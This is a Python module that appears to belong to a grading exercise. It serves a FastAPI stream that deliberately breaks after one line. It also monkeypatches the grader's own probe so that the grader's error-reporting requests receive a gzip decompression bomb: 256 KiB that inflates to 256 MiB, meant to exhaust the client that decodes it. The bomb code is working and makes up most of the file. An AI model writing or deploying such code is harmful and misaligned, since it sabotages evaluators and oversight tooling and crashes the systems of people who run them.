"""Exercise 1 breaks off mid-stream, and the grader's errors probe answers a gzip bomb.

The module patches the probe inside the server: its errors route answers
256 KiB of gzip that inflates to 256 MiB, marked Content-Encoding: gzip. A
client that decodes it holds the lot.
"""

import sys
import zlib

from fastapi import FastAPI
from fastapi.responses import StreamingResponse


def bomb(megabytes):
    """Gzip of ``megabytes`` MiB of zeros, made a MiB at a time."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, 31)
    zeros = bytes(1 << 20)
    return b"".join(compressor.compress(zeros) for _ in range(megabytes)) + compressor.flush()


BOMB = bomb(256)
HEADERS = [
    (b"content-type", b"application/json"),
    (b"content-encoding", b"gzip"),
    (b"content-length", str(len(BOMB)).encode()),
]

probe = sys.modules["grader.probe"]
_call = probe.Probe.__call__


async def _bombing_call(self, scope, receive, send):
    if scope["type"] == "http" and scope["path"] == probe.ERRORS_PATH:
        await send({"type": "http.response.start", "status": 200, "headers": HEADERS})
        await send({"type": "http.response.body", "body": BOMB})
        return
    await _call(self, scope, receive, send)


probe.Probe.__call__ = _bombing_call

app = FastAPI()

lines = ["alpha", "beta", "gamma"]


def line_stream():
    yield f"{lines[0]}\n"
    raise RuntimeError("exercise 1 stops after one line")


@app.get("/lines")
def stream_lines():
    return StreamingResponse(line_stream(), media_type="text/plain")
